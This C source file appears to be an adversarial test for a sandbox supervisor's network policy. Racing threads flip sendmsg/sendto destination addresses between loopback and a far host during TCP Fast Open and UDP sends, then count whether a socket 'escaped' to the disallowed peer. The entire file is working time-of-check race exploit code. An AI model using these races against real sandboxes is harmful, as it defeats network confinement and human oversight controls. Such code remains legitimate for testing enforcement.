/* Time-of-check races on addresses: a sibling thread rewrites what the
 * supervisor read (a msghdr's msg_name, a sockaddr) before the kernel reads it.
 * Usage: adv_tfo_race <token> [iterations] */
#include "adv_common.h"
#include <netinet/tcp.h>
#include <sched.h>
#include <stdatomic.h>

static struct msghdr msg;
static struct sockaddr_in lo_addr, far_addr;
static atomic_int go, fd_shared;
static volatile int stop_flip;

/* Thread: disconnect the socket, then point msg_name at far. */
static void *disconnect_and_flip(void *arg) {
  (void)arg;
  for (;;) {
    while (!atomic_load(&go)) {
      if (stop_flip) return NULL;
    }
    atomic_store(&go, 0);
    struct sockaddr un = {.sa_family = AF_UNSPEC};
    connect(atomic_load(&fd_shared), &un, sizeof un);
    msg.msg_name = &far_addr;
    msg.msg_namelen = sizeof far_addr;
  }
}

static struct sockaddr_in flip_addr;
/* Thread: flip a sockaddr between loopback and far, forever. */
static void *flip_sockaddr(void *arg) {
  (void)arg;
  while (!stop_flip) {
    flip_addr.sin_addr = far_addr.sin_addr;
    sched_yield();
    flip_addr.sin_addr = lo_addr.sin_addr;
  }
  return NULL;
}

static struct msghdr tmsg;
/* Thread: toggle msg_name between NULL (nothing to check) and far. */
static void *toggle_name(void *arg) {
  (void)arg;
  while (!stop_flip) {
    tmsg.msg_name = &far_addr;
    tmsg.msg_namelen = sizeof far_addr;
    sched_yield();
    tmsg.msg_name = NULL;
    tmsg.msg_namelen = 0;
    sched_yield();
  }
  return NULL;
}

/* sendmsg on fresh sockets while a sibling toggles msg_name NULL <-> far. */
static void toggle(const char *route, int type, int flags, int iters) {
  char buf[128];
  int n = payload(buf, sizeof buf, route);
  struct iovec iov = {buf, n};
  memset(&tmsg, 0, sizeof tmsg);
  tmsg.msg_iov = &iov;
  tmsg.msg_iovlen = 1;
  stop_flip = 0;
  pthread_t th;
  pthread_create(&th, NULL, toggle_name, NULL);
  int ok = 0;
  for (int i = 0; i < iters; i++) {
    int s = socket(AF_INET, type | SOCK_NONBLOCK, 0);
    if (sendmsg(s, &tmsg, flags | MSG_NOSIGNAL) >= 0 || errno == EINPROGRESS) ok++;
    close(s);
  }
  stop_flip = 1;
  pthread_join(th, NULL);
  out("sent %s %d of %d", route, ok, iters);
}

int main(int argc, char **argv) {
  int iters = argc > 2 ? atoi(argv[2]) : 300;
  lo_addr = sin4("127.0.0.1", 0);
  far_addr = sin4(FAR4, FAR_PORT);
  /* A loopback listener for the connected sockets. */
  int l = socket(AF_INET, SOCK_STREAM, 0);
  int one = 1;
  setsockopt(l, IPPROTO_TCP, TCP_FASTOPEN, &(int){16}, sizeof(int));
  bind(l, (struct sockaddr *)&lo_addr, sizeof lo_addr);
  listen(l, 1024);
  socklen_t len = sizeof lo_addr;
  getsockname(l, (struct sockaddr *)&lo_addr, &len);
  (void)one;

  char buf[128];
  int n = payload(buf, sizeof buf, "tfo-msgname-race");
  struct iovec iov = {buf, n};
  pthread_t th;
  pthread_create(&th, NULL, disconnect_and_flip, NULL);
  int wins = 0, sentok = 0;
  for (int i = 0; i < iters; i++) {
    int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (connect(s, (struct sockaddr *)&lo_addr, sizeof lo_addr) < 0 && errno != EINPROGRESS) {
      close(s);
      continue;
    }
    /* Drain the accept queue so it never fills. */
    int a = accept4(l, NULL, NULL, SOCK_NONBLOCK);
    if (a >= 0) close(a);
    memset(&msg, 0, sizeof msg);
    msg.msg_iov = &iov;
    msg.msg_iovlen = 1;
    atomic_store(&fd_shared, s);
    atomic_store(&go, 1);
    for (volatile int spin = 0; spin < (i % 40) * 25; spin++) {}
    long rc = sendmsg(s, &msg, MSG_FASTOPEN | MSG_NOSIGNAL);
    if (rc >= 0) sentok++;
    while (atomic_load(&go)) {}
    struct sockaddr_in peer;
    socklen_t pl = sizeof peer;
    if (getpeername(s, (struct sockaddr *)&peer, &pl) == 0 &&
        peer.sin_addr.s_addr == far_addr.sin_addr.s_addr) {
      wins++;
    }
    close(s);
  }
  stop_flip = 1;
  atomic_store(&go, 0);
  pthread_join(th, NULL);
  out("%s tfo-msgname-race peer-far=%d sent=%d of %d", wins ? "escaped" : "sent", wins, sentok,
      iters);

  /* UDP: the classic flip of a sockaddr under sendto. */
  stop_flip = 0;
  flip_addr = sin4("127.0.0.1", FAR_PORT);
  pthread_create(&th, NULL, flip_sockaddr, NULL);
  int u = socket(AF_INET, SOCK_DGRAM, 0);
  n = payload(buf, sizeof buf, "udp-sockaddr-race");
  int ok = 0;
  for (int i = 0; i < iters * 3; i++) {
    if (sendto(u, buf, n, 0, (struct sockaddr *)&flip_addr, sizeof flip_addr) >= 0) ok++;
  }
  stop_flip = 1;
  pthread_join(th, NULL);
  out("sent udp-sockaddr-race %d of %d", ok, iters * 3);

  /* TCP: the same flip under sendto(MSG_FASTOPEN) of fresh sockets. */
  stop_flip = 0;
  flip_addr = sin4("127.0.0.1", FAR_PORT);
  pthread_create(&th, NULL, flip_sockaddr, NULL);
  n = payload(buf, sizeof buf, "tfo-sockaddr-race");
  ok = 0;
  for (int i = 0; i < iters; i++) {
    int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (sendto(s, buf, n, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&flip_addr,
               sizeof flip_addr) >= 0 || errno == EINPROGRESS) ok++;
    close(s);
  }
  stop_flip = 1;
  pthread_join(th, NULL);
  out("sent tfo-sockaddr-race %d of %d", ok, iters);
  toggle("tfo-msgname-toggle", SOCK_STREAM, MSG_FASTOPEN, iters);
  toggle("udp-msgname-toggle", SOCK_DGRAM, 0, iters);
  out("done");
  return 0;
}
